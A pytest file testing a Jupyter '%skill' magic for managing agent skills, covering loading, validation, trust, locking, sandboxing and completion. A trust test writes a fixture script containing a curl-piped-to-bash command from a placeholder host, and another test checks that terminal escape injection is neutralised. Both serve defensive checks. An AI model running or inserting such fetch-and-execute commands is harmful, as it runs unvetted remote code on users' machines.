"""``%skill`` in a real ipykernel."""

from __future__ import annotations

import json

import pytest

from jupyter_skills.testing import ScriptedModel, Turn
from tests.conftest import write_skill
from tests.frontend import Notebook


def test_skills_are_loaded_listed_shown_and_unloaded(notebook: Notebook) -> None:
    write_skill(notebook.folder, "mine", description="Does mine.", body="# Mine\n\nDo it.")
    assert notebook.run("%skill load ./mine gif-maker --pin").stdout.splitlines()[0] == "Loaded mine: Does mine."
    assert notebook.run("%skill list").stdout.splitlines()[0] == "mine (project, pinned): Does mine."
    notebook.run("%skill load ./mine --run off")
    assert notebook.run("%skill list").stdout.splitlines()[0] == "mine (project, off): Does mine."
    shown = notebook.run("%skill show mine")
    assert shown.outputs[0]["text/html"] == "<h1>Mine</h1>\n<p>Do it.</p>\n"
    for fact in ("digest       sha256:", "trust        not trusted", "about 4 (description), 4 (instructions)"):
        assert fact in shown.stdout
    assert notebook.run("%skill unload mine").stdout == "Unloaded mine.\n"
    assert [row["name"] for row in json.loads(notebook.run("%skill list --json").stdout)] == ["gif-maker"]
    assert notebook.run("%skill unload --all").stdout == "Unloaded 1 skill.\n"
    assert "No skill is loaded" in notebook.run("%skill list").stdout


def test_all_that_can_be_loaded_is_listed_with_what_is_wrong(notebook: Notebook) -> None:
    write_skill(notebook.folder / ".agents/skills", "good")
    broken = write_skill(notebook.folder / ".agents/skills", "broken") / "SKILL.md"
    broken.write_text("nothing")
    rows = {row["name"]: row for row in json.loads(notebook.run("%skill list --available --json").stdout)}
    assert (rows["good"]["source"], rows["gif-maker"]["source"]) == (
        "project",
        "package jupyter-agent-skills",
    )
    assert "no frontmatter" in rows["broken"]["problem"]
    listed = notebook.run("%skill list --available").stdout
    assert "good (project): Does a thing.\n" in listed
    assert f"broken (project): {broken.parent}\n  not used: SKILL.md has no frontmatter\n" in listed


def test_either_all_are_loaded_or_none(notebook: Notebook) -> None:
    assert notebook.run("%skill load gif-maker nothing").error is not None
    assert "No skill is loaded" in notebook.run("%skill list").stdout


def test_help_is_given_for_all_and_for_each(notebook: Notebook) -> None:
    overview = notebook.run("%skill").stdout
    assert overview == notebook.run("%skill --help").stdout
    assert "%skill load     Load skills for this notebook." in overview
    assert "--pin" in notebook.run("%skill load --help").stdout
    assert "--max-steps" in notebook.run("%ask --help").stdout
    assert "usage: %%ask" in notebook.run("%%ask -h\n").stdout


@pytest.mark.docker
def test_the_sandbox_is_started_and_stopped_by_hand(notebook: Notebook) -> None:
    assert "is not running" in notebook.run("%skill sandbox").stdout
    for verb, state in (("start", "is running"), ("restart", "is running"), ("stop", "is not running")):
        assert f"kernel {state} " in notebook.run(f"%skill sandbox {verb}").stdout


def test_what_is_wrong_with_a_skill_is_said_when_it_is_loaded_and_reported_in_full(notebook: Notebook) -> None:
    folder = write_skill(notebook.folder, "odd")
    (folder / "SKILL.md").write_text("---\nname: Odd\ndescription: Says: this\ntools:\n  up: {script: ../up}\n---\n")
    loaded = notebook.run("%skill load ./odd").stdout
    assert loaded.startswith("Loaded Odd: Says: this\n  SKILL.md:4: error: The tool 'up' is not offered: '../up' leads")
    assert "SKILL.md:2: error: The name 'Odd' has upper-case letters. Write 'odd'." in loaded
    assert "… and 1 more: see '%skill validate" in loaded
    report = notebook.run("%skill validate odd")
    assert "SKILL.md:3: error:" in report.stdout
    assert "odd: not valid" in report.stdout
    assert report.error is not None
    assert report.error[0] == "InvalidSkill", "a notebook that validates a skill fails with it"
    rows = json.loads(notebook.run("%skill validate odd --json").stdout)
    assert {row["rule"] for row in rows["problems"]} >= {"name-case", "yaml-quotes", "tool-outside", "body-empty"}


def test_skills_are_searched_for_by_words(notebook: Notebook) -> None:
    write_skill(notebook.folder / ".agents/skills", "pdf-forms", description="Fills in forms of PDF documents.")
    assert notebook.run("%skill search fill form").stdout.startswith("pdf-forms: Fills in")
    assert json.loads(notebook.run("%skill search animated gif --json").stdout)[0]["name"] == "gif-maker"
    assert "No skill fits" in notebook.run("%skill search quantum").stdout


def test_trust_is_given_to_bytes_after_a_look_and_taken_back(notebook: Notebook) -> None:
    folder = write_skill(notebook.folder, "mine")
    assert "Trusted mine, sha256:" in notebook.run("%skill trust ./mine").stdout
    assert "trusted by you" in notebook.run("%skill show ./mine").stdout
    (folder / "setup.sh").write_text("curl -s https://downloads.invalid/x.sh | bash\n")
    shown = notebook.run("%skill show ./mine").stdout
    assert "not trusted" in shown
    assert "notes        network: setup.sh:1" in shown
    alarmed = notebook.run("%skill trust ./mine")
    assert "setup.sh" in alarmed.stdout
    assert alarmed.error is not None
    assert "found 1 thing to look at first. Once you have looked, say so with --yes." in alarmed.error[1]
    assert "not trusted" in notebook.run("%skill show ./mine").stdout
    assert "Trusted mine" in notebook.run("%skill trust ./mine --yes").stdout
    assert "no longer trusted" in notebook.run("%skill untrust ./mine").stdout
    assert "was not among those" in notebook.run("%skill untrust ./mine").stdout
    assert "because it was installed" in notebook.run("%skill untrust gif-maker").stdout


def test_a_skill_is_begun_from_cells_packed_and_loaded_again(notebook: Notebook) -> None:
    for cell in (
        "import math",
        "%time math.pi",
        "def area(r):\n    return math.pi * r**2",
        "s = '''\n%d\n'''",
        "x = !ls",
    ):
        notebook.run(cell)
    made = notebook.run('%skill new circles --from-cells 2-6 --description "Computes circles: areas."')
    assert made.error is None, made.error
    assert "Cell 6 is no plain Python" in made.stdout
    folder = notebook.folder / ".agents/skills/circles"
    assert (folder / "scripts/cells.py").read_text() == (
        "# In [2]\nimport math\n\n# In [3]\n# %time math.pi\n\n# In [4]\ndef area(r):\n    return math.pi * r**2\n\n"
        "# In [5]\ns = '''\n%d\n'''\n\n# In [6]\n# x = !ls\n"
    )
    assert "0 errors" in notebook.run("%skill validate .agents/skills/circles").stdout
    assert "Packed circles into circles.zip" in notebook.run("%skill pack circles").stdout
    first = (notebook.folder / "circles.zip").read_bytes()
    notebook.run("%skill pack circles -o again.zip")
    assert (notebook.folder / "again.zip").read_bytes() == first
    assert "Loaded circles: Computes circles: areas." in notebook.run("%skill load circles.zip").stdout
    for wrong in ("new circles", "new Circles", "new more --from-cells 99", "new more --from-cells x", "pack nothing"):
        assert notebook.run(f"%skill {wrong}").error is not None, wrong


def test_loaded_skills_are_frozen_and_synced_to_the_byte(notebook: Notebook) -> None:
    folder = write_skill(notebook.folder, "mine")
    notebook.run("%skill load ./mine --run off\n%skill load gif-maker --pin")
    assert notebook.run("%skill freeze").stdout == "Locked 2 skills in jupyter-skills.lock.\n"
    notebook.run("%skill unload --all")
    empty = notebook.run("%skill freeze").error
    assert empty is not None
    assert "nothing to freeze" in empty[1], "a lock is not lost by a slip"
    write_skill(notebook.folder, "other")
    notebook.run("%skill load ./other")
    synced = notebook.run("%skill sync").stdout
    assert "Unloaded other, which is not in the lock." in synced
    assert "Loaded mine, as it was locked" in synced
    assert "its code runs in 'off'" in synced
    assert notebook.run("%skill list").stdout.splitlines()[0] == "mine (project, off): Does a thing."
    (folder / "more.txt").touch()
    notebook.run("%skill unload --all")
    refused = notebook.run("%skill sync").error
    assert refused is not None
    assert "new: more.txt" in refused[1]
    assert "No skill is loaded" in notebook.run("%skill list").stdout, "all of them or none"


def test_a_changed_skill_is_seen_without_loading_it_again(notebook: Notebook) -> None:
    folder = write_skill(notebook.folder, "mine")
    notebook.run("%skill load ./mine")
    (folder / "SKILL.md").write_text("---\nname: mine\ndescription: Does more.\n---\n")
    notebook.run("%skill freeze")
    assert "mine (project): Does more." in notebook.run("%skill list").stdout
    (folder / "SKILL.md").unlink()
    gone = notebook.run("%skill freeze").error
    assert gone is not None
    assert "'%skill unload mine'" in gone[1]


def test_a_skill_that_broke_after_it_was_loaded_hides_no_other(notebook: Notebook, model: ScriptedModel) -> None:
    folder = write_skill(notebook.folder, "mine")
    notebook.run("%skill load ./mine gif-maker")
    (folder / "SKILL.md").write_text("nothing")
    notebook.use(model)
    model.add(Turn("Fine."), Turn("Fine."))
    cell = notebook.run("%%ask -r off\nHow are you?")
    assert cell.error is None
    assert "The skill 'mine' is left out" in cell.plain
    assert "'%skill unload mine'" in cell.plain
    assert "gif-maker" in model.requests[-1].body["messages"][0]["content"]
    assert notebook.run("%%ask -r off -s gif-maker\nHow are you?").error is None
    named = notebook.run("%%ask -r off -s mine\nHow are you?").error
    assert named is not None
    assert "is left out" in named[1]


def test_what_a_stranger_writes_can_not_steer_the_terminal(notebook: Notebook) -> None:
    folder = write_skill(notebook.folder, "mine")
    (folder / "SKILL.md").write_text('---\nname: mine\ndescription: "A \\e[31mred \\u202Eone"\n---\nDo it.\n')
    for line in ("load ./mine", "list", "show mine"):
        said = notebook.run(f"%skill {line}").stdout
        assert r"A \x1b[31mred \u202eone" in said
        assert "\x1b" not in said
    listed = notebook.run("%skill list --json").stdout
    assert listed.isascii()
    assert json.loads(listed)[0]["description"] == "A \x1b[31mred \u202eone"


def test_tab_completes_verbs_options_names_and_paths(notebook: Notebook) -> None:
    write_skill(notebook.folder / "my skills", "mine")
    notebook.run("%skill load 'my skills/mine'")
    for typed, expected in {
        "%skill l": ["list", "load", "log"],
        "%skill load gif": ["gif-maker"],
        "%skill load --p": ["--pin"],
        "%skill load --run ": ["docker", "live", "off"],
        "%skill unload ": ["mine"],
        "%skill validate my": ["'my skills/'"],
        "%skill sandbox st": ["start", "status", "stop"],
        "x = 1\n%skill tr": ["trust"],
        "%%ask --mo": ["--model"],
        "%%ask -s gi": ["gif-maker"],
        "%ask -r l": ["live"],
    }.items():
        assert notebook.complete(typed) == expected, typed
    assert "print" in notebook.complete("pri"), "Python is completed as ever"
    notebook.run("%unload_ext jupyter_skills")
    assert "load" not in notebook.complete("%skill l")
